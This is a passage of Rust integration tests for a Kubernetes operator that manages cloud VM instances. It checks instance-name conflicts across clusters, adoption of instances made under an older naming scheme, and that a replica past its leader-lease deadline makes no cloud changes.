    assert!(ready.message.contains("Prerequisites") && ready.message.contains("5s"), "{}", ready.message);
    assert!(ready.message.contains("System is booting up"), "quotes the VM: {}", ready.message);
    // Booting is not an authentication failure.
    assert!(w.cluster.events_of("booting").iter().all(|e| e.reason != "SSHAuthFailed"));
}

// --- cluster identity ----------------------------------------------------------------------

/// Makes an instance through the emulator's Compute API, as another operator (or version)
/// would have, and waits for the insert to finish.
async fn seed_instance(w: &World, name: &str, labels: std::collections::BTreeMap<String, String>) -> CloudInstance {
    let req = InstanceRequest {
        name: name.into(),
        zone: ZONE.into(),
        machine_type: "e2-medium".into(),
        source_image: "projects/ubuntu-os-cloud/global/images/family/ubuntu-2204-lts".into(),
        disk_size_gb: 20,
        labels,
        metadata: [("startup-script".to_string(), "echo theirs".to_string())].into(),
        network: None,
        subnetwork: None,
        external_ip: true,
        service_account_email: None,
        tags: vec![],
    };
    let op = w.compute.insert_instance(&req).await.expect("seed insert");
    for _ in 0..200 {
        if w.compute.operation(&op).await.expect("seed operation") == OperationState::Done {
            return w.instance(name).await.expect("seeded");
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    panic!("seeding {name} never finished");
}

fn who<'a>(cluster: &'a str, name: &'a str, uid: &'a str) -> naming::Identity<'a> {
    naming::Identity { cluster, kind: "projectvm", namespace: "team", name, uid }
}

#[tokio::test]
async fn another_clusters_instance_under_our_name_is_a_conflict_never_adopted_or_deleted() {
    let w = World::new().await;
    let name = who(CLUSTER, "squat", "").instance_name();
    let labels = who("elsewhere", "squat", "uid-theirs").labels();
    let theirs = seed_instance(&w, &name, labels.clone()).await;

    let mut pvm = projectvm("squat", REPO);
    w.until(&mut pvm, "InstanceNameConflict", SHORT, |s| stalled_with(s, "InstanceNameConflict")).await;
    let s = pvm.vm_status().unwrap();
    assert_terminal(&w, "squat", s, "InstanceReady", "InstanceNameConflict", &name);
    let message = &harness::condition(s, "InstanceReady").message;
    assert!(message.contains("cluster elsewhere"), "names the other cluster: {message}");
    assert!(s.instance.is_none(), "never adopted: {:?}", s.instance);
    assert!(s.cost.is_none(), "their instance is not billed to this resource");
    assert!(w.cluster.events_of("squat").iter().all(|e| e.reason != "Adopted"));
    // Reconciling again changes nothing on their instance.
    for _ in 0..3 {
        let _ = w.reconcile(&mut pvm).await;
    }
    let now = w.instance(&name).await.expect("left alone");
    assert_eq!((now.id.as_str(), &now.labels, &now.metadata), (theirs.id.as_str(), &labels, &theirs.metadata));
    assert_eq!(now.state, theirs.state);

    // Deleting the resource finishes at once and leaves their instance alone.
    pvm.metadata.deletion_timestamp =
        Some(k8s_openapi::apimachinery::pkg::apis::meta::v1::Time(k8s_openapi::jiff::Timestamp::now()));
    w.delete(&mut pvm).await.expect("deletion finishes: the finalizer comes off");
    assert_eq!(w.instance(&name).await.expect("not deleted").id, theirs.id);
    let events = w.cluster.events_of("squat");
    assert!(
        events.iter().any(|e| e.warning && e.reason == "InstanceNameConflict" && e.note.contains("left alone")),
        "{events:?}"
    );

    // Neither is an instance made by something other than projectvm, nor projectvm's for
    // another resource of this cluster.
    for (resource, labels, holder) in [
        ("plain", [("team".to_string(), "x".to_string())].into(), "something other than projectvm"),
        ("taken", who(CLUSTER, "other", "uid-other").labels(), "another resource (uid uid-other)"),
    ] {
        let name = who(CLUSTER, resource, "").instance_name();
        seed_instance(&w, &name, labels).await;
        let mut pvm = projectvm(resource, REPO);
        w.until(&mut pvm, "InstanceNameConflict", SHORT, |s| stalled_with(s, "InstanceNameConflict")).await;
        let message = &harness::condition(pvm.vm_status().unwrap(), "InstanceReady").message;
        assert!(message.contains(holder), "{message}");
        pvm.metadata.deletion_timestamp =
            Some(k8s_openapi::apimachinery::pkg::apis::meta::v1::Time(k8s_openapi::jiff::Timestamp::now()));
        w.delete(&mut pvm).await.expect("deletion finishes");
        assert!(w.instance(&name).await.is_some(), "{resource}: not deleted");
    }
}

#[tokio::test]
async fn two_clusters_same_name_two_instances_deleting_one_never_touches_the_other() {
    let a = World::new().await;
    let b = a.another_cluster("cluster-b").await;
    // The same namespace, name and even uid in both clusters.
    let (mut in_a, mut in_b) = (projectvm("api", REPO), projectvm("api", REPO));
    a.until_ready(&mut in_a).await;
    b.until_ready(&mut in_b).await;
    let inst = |o: &projectvm::api::ProjectVM| o.vm_status().unwrap().instance.clone().unwrap();
    let (ia, ib) = (inst(&in_a), inst(&in_b));
    assert_ne!(ia.name, ib.name, "two instances");
    assert_ne!(ia.id, ib.id);
    let cloud_a = a.instance(ia.name.as_deref().unwrap()).await.unwrap();
    let cloud_b = a.instance(ib.name.as_deref().unwrap()).await.unwrap();
    assert_eq!(cloud_a.labels[naming::LABEL_CLUSTER], CLUSTER);
    assert_eq!(cloud_b.labels[naming::LABEL_CLUSTER], "cluster-b");
    // Each cluster's bulk list holds its own instance only.
    let listed = a.compute.list_instances(ZONE, &naming::cluster_selector("cluster-b")).await.unwrap();
    assert_eq!(listed.iter().map(|i| i.name.as_str()).collect::<Vec<_>>(), [cloud_b.name.as_str()]);

    in_b.metadata.deletion_timestamp =
        Some(k8s_openapi::apimachinery::pkg::apis::meta::v1::Time(k8s_openapi::jiff::Timestamp::now()));
    delete_until_done(&b, &mut in_b).await;
    assert!(a.instance(&cloud_b.name).await.is_none(), "B's instance deleted");
    assert_eq!(a.instance(&cloud_a.name).await.expect("A's instance kept").id, cloud_a.id);
    for _ in 0..3 {
        a.reconcile(&mut in_a).await.expect("A at rest");
    }
    assert!(harness::is(in_a.vm_status().unwrap(), "Ready", ConditionStatus::True));
    assert_eq!(inst(&in_a).id, ia.id, "A stays on its instance");
}

#[tokio::test]
async fn an_instance_of_the_previous_version_stays_with_its_resource() {
    let w = World::new().await;
    // Made by the version before cluster names: its naming, no cluster label.
    let legacy = naming::legacy_instance_name("projectvm", "team", "old");
    assert_eq!(legacy, "pvm-team-old");
    let mut labels = who(CLUSTER, "old", "uid-old").labels();
    labels.remove(naming::LABEL_CLUSTER);
    let before = seed_instance(&w, &legacy, labels.clone()).await;
    let mut pvm = projectvm("old", REPO);
    let mut v = serde_json::to_value(&pvm).unwrap();
    v["status"] = json!({"instance": {"name": legacy, "id": before.id, "zone": ZONE}});
    pvm = serde_json::from_value(v).unwrap();

    w.until_ready(&mut pvm).await;
    let s = pvm.vm_status().unwrap();
    assert_eq!(s.instance.as_ref().unwrap().id.as_deref(), Some(before.id.as_str()), "adopted, not recreated");
    assert_eq!(s.instance.as_ref().unwrap().name.as_deref(), Some(legacy.as_str()));
    assert!(w.instance(&who(CLUSTER, "old", "").instance_name()).await.is_none(), "no second instance");
    assert!(w.cluster.events_of("old").iter().all(|e| e.reason != "InstanceReplaced"));
    // It got the cluster label, every other label kept, so the cluster's bulk lists see it.
    let after = w.instance(&legacy).await.unwrap();
    assert_eq!(after.labels[naming::LABEL_CLUSTER], CLUSTER);
    assert_eq!(after.labels.len(), labels.len() + 1);
    assert!(w.cluster.events_of("old").iter().any(|e| e.reason == "ClusterLabelled"));
    let listed = w.compute.list_instances(ZONE, &naming::cluster_selector(CLUSTER)).await.unwrap();
    assert!(listed.iter().any(|i| i.name == legacy));

    // Deleting the resource deletes it.
    pvm.metadata.deletion_timestamp =
        Some(k8s_openapi::apimachinery::pkg::apis::meta::v1::Time(k8s_openapi::jiff::Timestamp::now()));
    delete_until_done(&w, &mut pvm).await;
    assert!(w.instance(&legacy).await.is_none(), "deleted with its resource");

    // The previous version's insert, still in flight at the upgrade: no instance recorded
    // yet, only the operation; the instance it made is found under the old name.
    let mut labels_mid = who(CLUSTER, "mid", "uid-mid").labels();
    labels_mid.remove(naming::LABEL_CLUSTER);
    let legacy_mid = naming::legacy_instance_name("projectvm", "team", "mid");
    let made = seed_instance(&w, &legacy_mid, labels_mid).await;
    let mut mid = projectvm("mid", REPO);
    let mut v = serde_json::to_value(&mid).unwrap();
    v["status"] = json!({"operation": {"name": "operation-of-the-old-version", "kind": "insert", "zone": ZONE}});
    mid = serde_json::from_value(v).unwrap();
    w.until_ready(&mut mid).await;
    let got = mid.vm_status().unwrap().instance.clone().unwrap();
    assert_eq!((got.name.as_deref(), got.id.as_deref()), (Some(legacy_mid.as_str()), Some(made.id.as_str())));
    assert!(w.instance(&who(CLUSTER, "mid", "").instance_name()).await.is_none(), "no second instance");

    // One the previous version made for another object of the same name (without a cluster
    // label nothing says which cluster that was): left alone; the resource gets its own.
    labels.insert(naming::LABEL_UID.into(), "uid-someone".into());
    let foreign = seed_instance(&w, &legacy, labels).await;
    let mut pvm = projectvm("old", REPO);
    let mut v = serde_json::to_value(&pvm).unwrap();
    v["status"] = json!({"instance": {"name": legacy, "id": foreign.id, "zone": ZONE}});
    pvm = serde_json::from_value(v).unwrap();
    w.until_ready(&mut pvm).await;
    let mine = pvm.vm_status().unwrap().instance.clone().unwrap();
    assert_eq!(mine.name, Some(who(CLUSTER, "old", "").instance_name()));
    assert_ne!(mine.id.as_deref(), Some(foreign.id.as_str()));
    pvm.metadata.deletion_timestamp =
        Some(k8s_openapi::apimachinery::pkg::apis::meta::v1::Time(k8s_openapi::jiff::Timestamp::now()));
    delete_until_done(&w, &mut pvm).await;
    assert_eq!(w.instance(&legacy).await.expect("left alone").id, foreign.id);
}

// --- one leader ------------------------------------------------------------------------------

/// Once its renew deadline has passed, a replica's reconciles issue no Compute Engine
/// mutation and no VM command: the refusals are transient errors (no panic, never Failed),
/// and work resumes when it leads again.
#[tokio::test]
async fn past_the_renew_deadline_no_cloud_mutation_and_no_vm_command_is_issued() {
    use projectvm::cloud::Compute;
    use projectvm::fence::Fence;
    let fence = Fence::closed();
    fence.open_until(tokio::time::Instant::now() + Duration::from_secs(3600));
    let w = World::fenced(fence.clone()).await;
    let mut pvm = projectvm("fenced", REPO);
    w.until_ready(&mut pvm).await;
    let name = pvm.vm_status().unwrap().instance.as_ref().unwrap().name.clone().unwrap();

    // The renew deadline passes; then a resize (stop + setMachineType) and a new resource
    // (insert) come in, and timers fire.
    fence.close();
    let instances = |w: &World| {
        let compute = w.compute.clone();
        async move { compute.list_instances(harness::ZONE, &Default::default()).await.unwrap().len() }
    };
    let count = instances(&w).await;
    let commands = w.vms.commands.lock().unwrap().len();
    pvm.spec.machine.size = Some(projectvm::api::MachineSize::Large);
    pvm.metadata.generation = Some(2);
    let mut late = projectvm("late", REPO);
    for _ in 0..5 {
        for r in [w.reconcile(&mut pvm).await, w.reconcile(&mut late).await] {
            assert!(!matches!(r, Err(projectvm::controller::Error::Internal(_))), "{r:?}");
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let i = w.instance(&name).await.unwrap();
    assert_eq!((i.state.as_str(), i.machine_type.as_str()), ("RUNNING", "e2-medium"), "untouched");
    assert_eq!(instances(&w).await, count, "no instance inserted");
    assert_eq!(w.vms.commands.lock().unwrap().len(), commands, "no command sent to a VM");
    for o in [&pvm, &late] {
        if let Some(s) = o.vm_status() {
            assert_ne!(s.phase, Some(Phase::Failed), "a refusal is transient: {s:#?}");
        }
    }

    // Leading again, the same resources go ahead.
    fence.open_until(tokio::time::Instant::now() + Duration::from_secs(3600));
    w.until_ready(&mut late).await;
    w.until(&mut pvm, "resized", SHORT, |s| {
        s.phase == Some(Phase::Ready) && s.instance.as_ref().unwrap().machine_type.as_deref() == Some("e2-standard-4")
    })
    .await;
}
